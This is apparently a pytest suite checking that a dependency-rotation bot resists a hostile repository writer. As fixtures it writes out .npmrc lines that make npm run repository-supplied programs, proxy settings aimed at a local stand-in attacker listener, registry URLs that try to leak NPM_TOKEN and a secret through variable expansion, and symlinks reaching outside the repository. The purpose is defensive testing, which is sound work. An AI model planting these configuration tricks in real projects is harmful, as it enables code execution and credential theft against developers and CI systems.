"""A repository writer attacks the bot (issue 10, critical and high): nothing of theirs runs,
no request goes where they point, no secret leaves, no write escapes the repository.

Each test runs the real `rotation-bot` against real npm, git and Verdaccio, with a listener on
127.0.0.1 standing in for the attacker's server.
"""

from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import git
import pytest

from tests.conftest import Env, bot, bot_json, make_project, npm_lock
from tests.support.git_fixture import commit_directory


class Listener:
    """A TCP server on 127.0.0.1 that records every connection and what it was sent."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(65536))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self.socket.close()


def hostile_project(path: Path, env: Env, files: dict[str, str], **kwargs: object) -> git.Repo:
    """A real project locked cleanly, then given the attacker's files in a later commit (so the
    fixture's own npm never reads them)."""
    make_project(path, env, **kwargs)  # type: ignore[arg-type]
    for name, text in files.items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_text(text)
    return commit_directory(path, "the attacker's change")


@pytest.fixture
def attacker() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


def test_repository_npmrc_cannot_name_a_program_for_npm(tmp_path: Path, env: Env) -> None:
    marker = tmp_path / "pwned"
    program = f'#!/bin/sh\necho "$@" > {marker}\nexit 1\n'
    repo = hostile_project(
        tmp_path / "app",
        env,
        {
            ".npmrc": "git=./tools/git\nscript-shell=./tools/git\nnode-options=--require ./tools/x.js\n",
            "tools/git": program,
            "tools/x.js": f"require('fs').writeFileSync({json.dumps(str(marker))}, 'node')\n",
        },
    )
    (tmp_path / "app" / "tools" / "git").chmod(0o755)
    code, summaries = bot_json(env, "run", "--repo", str(tmp_path / "app"), "--runbook", "sharp")

    assert code == 0, summaries
    assert not marker.exists(), "npm ran a program the repository named"
    regenerate = next(
        step for step in summaries[0]["steps"] if step["kind"] == "regenerate-lockfile"
    )
    assert regenerate["status"] == "passed"
    assert "rotation-bot/sharp-0.33.6" in {head.name for head in repo.heads}


def test_a_git_dependency_is_never_fetched_with_the_repository_git(
    tmp_path: Path, env: Env
) -> None:
    marker = tmp_path / "pwned"
    make_project(
        tmp_path / "app",
        env,
        manifest_extra={
            "dependencies": {"sharp": "0.33.4", "evil": "git+https://127.0.0.1:9/evil.git"}
        },
        files={".npmrc": "git=./tools/git\n", "tools/git": f"#!/bin/sh\ntouch {marker}\n"},
        lock=False,
    )
    # a lockfile without the git dependency (npm cannot resolve it here)
    manifest_path = tmp_path / "app" / "package.json"
    manifest = json.loads(manifest_path.read_text())
    git_spec = manifest["dependencies"].pop("evil")
    manifest_path.write_text(json.dumps(manifest, indent=2) + "\n")
    npm_lock(tmp_path / "app", env)
    manifest["dependencies"]["evil"] = git_spec
    manifest_path.write_text(json.dumps(manifest, indent=2) + "\n")
    (tmp_path / "app" / "tools" / "git").chmod(0o755)
    repo = git.Repo(tmp_path / "app")
    repo.git.add("--all")
    repo.git.commit("-m", "add a git dependency", "--no-verify")

    result = bot(env, "run", "--repo", str(tmp_path / "app"), "--runbook", "sharp")

    assert not marker.exists(), "npm ran the repository's git"
    assert result.exit_code == 1
    assert "could not regenerate package-lock.json: npm error" in result.stdout


def test_proxy_and_tls_settings_of_the_repository_are_ignored(
    tmp_path: Path, env: Env, attacker: Listener
) -> None:
    proxy = f"http://127.0.0.1:{attacker.port}/"
    hostile_project(
        tmp_path / "app", env, {".npmrc": f"proxy={proxy}\nhttps-proxy={proxy}\nstrict-ssl=false\n"}
    )
    code, summaries = bot_json(env, "run", "--repo", str(tmp_path / "app"), "--runbook", "sharp")

    assert code == 0, summaries
    assert attacker.received == [], "a request went through the repository's proxy"


def test_npmrc_variables_never_expand_the_bot_environment(
    tmp_path: Path, env: Env, attacker: Listener
) -> None:
    host = f"127.0.0.1:{attacker.port}"
    env.extra["SOME_SECRET"] = "s3cr3t-value-do-not-leak"
    env.extra["NPM_TOKEN"] = "npm-token-do-not-leak"
    hostile_project(
        tmp_path / "app",
        env,
        {
            ".npmrc": (
                f"@img:registry=http://{host}/${{SOME_SECRET}}/\n"
                f"//{host}/:_authToken=${{NPM_TOKEN}}\n"
            )
        },
    )
    code, summaries = bot_json(env, "run", "--repo", str(tmp_path / "app"), "--runbook", "sharp")

    assert code == 0, summaries
    sent = b"".join(attacker.received)
    assert b"s3cr3t" not in sent and b"npm-token" not in sent
    assert attacker.received == []


def test_the_operator_may_allow_named_variables(tmp_path: Path, env: Env) -> None:
    # the same Verdaccio under another host name: only the expanded variable can point there
    port = env.registry_url.rstrip("/").rsplit(":", 1)[1]
    env.extra["ROTATION_BOT_NPMRC_VARIABLES"] = "REGISTRY_HOST"
    env.extra["REGISTRY_HOST"] = f"localhost:{port}"
    repo = hostile_project(
        tmp_path / "app", env, {".npmrc": "@img:registry=http://${REGISTRY_HOST}/\n"}
    )

    code, summaries = bot_json(env, "run", "--repo", str(tmp_path / "app"), "--runbook", "sharp")

    assert code == 0, summaries
    lock = json.loads(repo.git.show("rotation-bot/sharp-0.33.6:package-lock.json"))
    resolved = lock["packages"]["node_modules/@img/sharp-linux-x64"]["resolved"]
    assert resolved.startswith(f"http://localhost:{port}/@img/sharp-linux-x64/")


def _commit_symlink(repo_path: Path, link: str, target: Path) -> git.Repo:
    (repo_path / link).parent.mkdir(parents=True, exist_ok=True)
    (repo_path / link).unlink(missing_ok=True)
    os.symlink(target, repo_path / link)
    repo = git.Repo(repo_path)
    repo.git.add("--all")
    repo.git.commit("-m", f"link {link}", "--no-verify")
    return repo


def test_a_symlinked_document_is_refused_and_the_outside_file_untouched(
    tmp_path: Path, env: Env
) -> None:
    outside = tmp_path / "outside.md"
    outside.write_text("| `sharp` | 0.33.4 |\n")
    config = (
        "version: 1\nrunbooks:\n  sharp:\n    minimum-release-age: 0\n    document: docs/pins.md\n"
    )
    make_project(tmp_path / "app", env, config=config)
    repo = _commit_symlink(tmp_path / "app", "docs/pins.md", outside)

    result = bot(env, "run", "--repo", str(tmp_path / "app"), "--runbook", "sharp")

    assert result.exit_code != 0
    assert "docs/pins.md is a symlink" in result.stdout
    assert outside.read_text() == "| `sharp` | 0.33.4 |\n"
    assert not [head for head in repo.heads if head.name.startswith("rotation-bot/")]


def test_a_symlinked_document_directory_is_refused(tmp_path: Path, env: Env) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "pins.md").write_text("| `sharp` | 0.33.4 |\n")
    config = (
        "version: 1\nrunbooks:\n  sharp:\n    minimum-release-age: 0\n    document: docs/pins.md\n"
    )
    make_project(tmp_path / "app", env, config=config)
    _commit_symlink(tmp_path / "app", "docs", outside)

    result = bot(env, "run", "--repo", str(tmp_path / "app"), "--runbook", "sharp")

    assert result.exit_code != 0
    assert "docs/pins.md is a symlink (docs)" in result.stdout
    assert (outside / "pins.md").read_text() == "| `sharp` | 0.33.4 |\n"


def test_a_symlinked_dockerfile_is_skipped_never_rewritten(tmp_path: Path, env: Env) -> None:
    outside = tmp_path / "Dockerfile.outside"
    digest = "sha256:" + "1" * 64
    outside.write_text(f"FROM node:20@{digest}\n")
    make_project(tmp_path / "app", env)
    _commit_symlink(tmp_path / "app", "Dockerfile", outside)

    code, plans = bot_json(env, "plan", "--repo", str(tmp_path / "app"), "--runbook", "base-image")

    assert code == 0, plans
    assert any(
        item["subject"] == "Dockerfile" and "symlink" in item["reason"]
        for item in plans[0]["skipped"]
    )
    assert outside.read_text() == f"FROM node:20@{digest}\n"


def test_call_sites_never_follow_a_link_out_of_the_repository(tmp_path: Path, env: Env) -> None:
    outside = tmp_path / "secret.js"
    outside.write_text("const sharp = require('sharp'); // SECRET-OUTSIDE-CONTENT\n")
    make_project(
        tmp_path / "app",
        env,
        config="version: 1\nrunbooks:\n  sharp:\n    minimum-release-age: 0\n",
        files={"src/app.js": "import sharp from 'sharp';\n"},
    )
    _commit_symlink(tmp_path / "app", "src/linked.js", outside)

    code, summaries = bot_json(
        env, "run", "--repo", str(tmp_path / "app"), "--runbook", "sharp", "--target", "0.34.1"
    )

    assert code == 0, summaries
    body = summaries[0]["proposal"]["body"]
    assert "src/app.js:1" in body
    assert "SECRET-OUTSIDE-CONTENT" not in body and "src/linked.js" not in body


def test_a_symlinked_package_json_is_refused(tmp_path: Path, env: Env) -> None:
    outside = tmp_path / "package.json"
    make_project(tmp_path / "app", env)
    outside.write_text((tmp_path / "app" / "package.json").read_text())
    _commit_symlink(tmp_path / "app", "package.json", outside)

    result = bot(env, "plan", "--repo", str(tmp_path / "app"), "--runbook", "sharp")

    assert result.exit_code == 2
    assert "package.json is a symlink" in result.stdout
